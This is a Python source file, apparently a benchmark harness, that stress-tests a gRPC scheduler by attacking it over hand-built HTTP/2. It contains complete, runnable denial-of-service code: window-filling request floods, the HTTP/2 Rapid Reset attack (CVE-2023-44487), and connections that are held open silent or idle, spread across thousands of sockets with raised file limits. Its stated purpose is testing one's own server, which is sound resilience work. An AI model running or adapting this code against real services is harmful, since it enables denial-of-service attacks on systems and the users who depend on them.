"""Opens thousands of hostile connections, in a process of their own.

`python -m bench.attackers --target HOST:PORT --ready-file FILE` connects, writes the file, attacks
until SIGTERM, and then prints its counts as JSON. It updates the counts in the file during the
attack. The kinds:

- `flood`: on each connection one Admit after another, each of 64 KiB and of another tenant;
- `resets`: calls that are cancelled in the moment they are sent (CVE-2023-44487);
- `silent`: no byte is sent, not even the preface of HTTP/2;
- `idle`: only the preface;
- `mixed`: every fourth connection each of these.
"""

import asyncio
import contextlib
import json
import random
import resource
import signal
import struct
from collections import Counter
from functools import lru_cache
from pathlib import Path
from typing import cast

import click
import uvloop
from schedsvc_client.v1 import scheduler_pb2 as pb

from bench import http2
from bench.http2 import Kind

__all__ = ["KINDS", "MESSAGE_BYTES", "Attack", "main"]

_PURE = ("flood", "resets", "silent", "idle")
KINDS = ("mixed", *_PURE)
#: With its head and its frames the message fits into a window of the initial size.
MESSAGE_BYTES = 65_500
PATH = "/schedsvc.v1.SchedulerService/Admit"

_SPARE_FILES = 64
#: The prefix of a gRPC message.
_HEAD_BYTES = 5
#: More than the fields of a message take without hashes, which fill it up.
_SMALLEST_BYTES = 2_000
_CONNECTING_AT_ONCE = 128
_RESETS_AT_ONCE = 100
_AGAIN_S = 5.0
_TELL_S = 0.25
_NAME_BYTES = 250
_FILLER_FIELD = 1_000


def _message(size: int) -> tuple[bytes, int, int]:
    """Make an AdmitRequest of `size` bytes. Returns it, and the offsets of its id and tenant."""
    request_id, tenant = "#" * 32, "@" * _NAME_BYTES
    # Each takes 8 bytes, and the other fields less than 1,000.
    hashes = min(4_096, (size - 1_000) // 8)
    request = pb.AdmitRequest(
        request_id=request_id,
        tenant=tenant,
        input_tokens=[100],
        max_output_tokens=100,
        prefix_block_hashes=range(1, hashes + 1),
    ).SerializeToString()
    # A field that the proto does not define: the parser has to skip it.
    rest = size - len(request) - 5
    filler = _varint(_FILLER_FIELD << 3 | 2) + _varint(rest) + bytes(rest)
    whole = request + filler
    return whole, whole.index(b"#"), whole.index(b"@")


def _varint(value: int) -> bytes:
    out = bytearray()
    while value >= 0x80:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes((*out, value))


@lru_cache(maxsize=1_024)
def _resets(before: int) -> bytes:
    """Write calls on the streams after one, each cancelled at once: alike for all connections."""
    streams = range(before + 2, before + 2 + 2 * _RESETS_AT_ONCE, 2)
    return b"".join(http2.call(stream, PATH, b"") + http2.reset(stream) for stream in streams)


class Attack:
    """Holds the state that all connections share: the messages, and the counts of events."""

    def __init__(
        self, kind: str, seed: int, token: str = "", message_bytes: int = MESSAGE_BYTES
    ) -> None:
        self.kind = kind
        self.counts: Counter[str] = Counter()
        self._random = random.Random(seed)
        self._metadata = (("authorization", f"Bearer {token}"),) if token else ()
        self._make(message_bytes)
        self._made = 0
        #: Connections that wait until all are open; None once they attack.
        self.waiting: set[_Connection] | None = set()

    def _make(self, message_bytes: int) -> None:
        #: Bytes of the connection's window that a call takes: the message and its head.
        self.window_bytes = message_bytes + _HEAD_BYTES
        self._message, self._id_at, self._tenant_at = _message(message_bytes)

    def fit(self, window: int) -> None:
        """Send messages that fill the window of a stream: a larger one would end the stream."""
        if _SMALLEST_BYTES <= window < self.window_bytes:
            self._make(window - _HEAD_BYTES)

    def begin(self) -> None:
        """Attack with all connections that are there, and with each that comes."""
        waiting, self.waiting = self.waiting or set(), None
        for connection in waiting:
            connection.go_on()

    def next_kind(self) -> str:
        """Say what the next connection does."""
        self._made += 1
        return _PURE[self._made % len(_PURE)] if self.kind == "mixed" else self.kind

    def call(self, stream: int) -> bytes:
        """Write a call of a tenant that the scheduler does not know."""
        drawn = self._random.randbytes(_NAME_BYTES // 2).hex().encode()
        message = bytearray(self._message)
        message[self._id_at : self._id_at + 32] = drawn[:32]
        message[self._tenant_at : self._tenant_at + len(drawn)] = drawn
        return http2.call(stream, PATH, bytes(message), self._metadata)


class _Connection(asyncio.Protocol):
    """Drives one connection. It attacks as often as the other end allows."""

    def __init__(self, attack: Attack) -> None:
        self._attack = attack
        self._kind = attack.next_kind()
        self._data = bytearray()
        self._window = http2.WINDOW
        self._stream = -1
        self._next = b""
        self._open = 0
        self._pinged = False
        self.lost = asyncio.get_running_loop().create_future()

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        # uvloop's transports write, though they are no asyncio.WriteTransport.
        self._transport = cast(asyncio.WriteTransport, transport)
        self._attack.counts["connected"] += 1
        if self._kind != "silent":
            self._transport.write(http2.OPENING)
        if self._attack.waiting is None:
            self.go_on()
        else:
            self._attack.waiting.add(self)

    def data_received(self, data: bytes) -> None:
        counts = self._attack.counts
        self._data += data
        for frame in http2.frames(self._data):
            if frame.kind == Kind.SETTINGS and not frame.flags & http2.ACK:
                self._attack.fit(frame.initial_window)
                self._transport.write(http2.frame(Kind.SETTINGS, http2.ACK))
            elif frame.kind == Kind.PING and not frame.flags & http2.ACK:
                self._transport.write(http2.frame(Kind.PING, http2.ACK, 0, frame.payload))
            elif frame.kind == Kind.PING:
                self._pinged = False
            elif frame.kind == Kind.WINDOW_UPDATE and frame.stream == 0:
                self._window += frame.increment
            elif frame.kind == Kind.GOAWAY:
                counts["goaway"] += 1
            elif frame.ends and self._open:
                self._open -= 1
                counts["reset" if frame.kind == Kind.RST_STREAM else "answered"] += 1
        if self._attack.waiting is None:
            self.go_on()

    def connection_lost(self, error: Exception | None) -> None:
        self._attack.counts["lost"] += 1
        if self._attack.waiting is not None:
            self._attack.waiting.discard(self)
        if not self.lost.done():
            self.lost.set_result(None)

    def go_on(self) -> None:
        """Do the next attack, if there is room for it."""
        if self._kind == "flood" and not self._open:
            self._flood()
        elif self._kind == "resets" and not self._pinged:
            self._reset()

    def _flood(self) -> None:
        if not self._next:
            self._stream += 2
            self._next = self._attack.call(self._stream)
        if self._window >= self._attack.window_bytes:
            self._window -= self._attack.window_bytes
            self._open += 1
            self._attack.counts["sent"] += 1
            self._transport.write(self._next)
            self._next = b""

    def _reset(self) -> None:
        self._transport.write(_resets(self._stream))
        self._stream += 2 * _RESETS_AT_ONCE
        self._attack.counts["sent"] += _RESETS_AT_ONCE
        # The server sends nothing more on a reset stream, so the answer to a ping permits the next
        # batch.
        self._pinged = True
        self._transport.write(http2.frame(Kind.PING, 0, 0, struct.pack(">Q", self._stream)))


async def _connect(attack: Attack, host: str, port: int, gate: asyncio.Semaphore) -> None:
    """Connect; connect again after a while if that failed or was ended."""
    loop = asyncio.get_running_loop()
    while True:
        try:
            async with gate:
                _, made = await loop.create_connection(lambda: _Connection(attack), host, port)
        except OSError:
            attack.counts["refused"] += 1
            await asyncio.sleep(_AGAIN_S)
            continue
        await made.lost
        await asyncio.sleep(_AGAIN_S)


async def _attack(attack: Attack, target: str, connections: int, ready_file: Path) -> None:
    host, _, port = target.rpartition(":")
    gate = asyncio.Semaphore(_CONNECTING_AT_ONCE)
    stop = asyncio.Event()
    asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
    tasks = [
        asyncio.ensure_future(_connect(attack, host, int(port), gate)) for _ in range(connections)
    ]
    while True:
        if attack.counts["connected"] + attack.counts["refused"] >= connections:
            break
        await asyncio.sleep(0.05)
    attack.begin()
    while not stop.is_set():
        _tell(ready_file, attack.counts)
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), _TELL_S)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


def _tell(ready_file: Path, counts: Counter[str]) -> None:
    """Write the counts so far. A reader never finds a partly written file."""
    written = ready_file.with_suffix(".new")
    written.write_text(json.dumps(counts))
    written.replace(ready_file)


def _allow_files(files: int) -> int:
    """Raise the limit of open files as far as it goes; return how many connections fit."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = files + _SPARE_FILES
    limit = wanted if hard == resource.RLIM_INFINITY else min(wanted, hard)
    resource.setrlimit(resource.RLIMIT_NOFILE, (limit, hard))
    return limit - _SPARE_FILES


@click.command()
@click.option("--target", required=True, help="HOST:PORT of the scheduler.")
@click.option("--connections", type=click.IntRange(1), default=10_000, show_default=True)
@click.option("--kind", type=click.Choice(KINDS), default="flood", show_default=True)
@click.option("--token", default="", help="A bearer token; empty: none.")
@click.option("--seed", type=int, default=1, show_default=True)
@click.option("--ready-file", type=click.Path(path_type=Path), required=True)
def main(target: str, connections: int, kind: str, token: str, seed: int, ready_file: Path) -> None:
    """Attack a scheduler of your own until SIGTERM; print the counts of events."""
    attack = Attack(kind, seed, token)
    connections = _allow_files(connections)
    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
        runner.run(_attack(attack, target, connections, ready_file))
    click.echo(json.dumps({"connections": connections, **attack.counts}))


if __name__ == "__main__":
    main(prog_name="python -m bench.attackers")
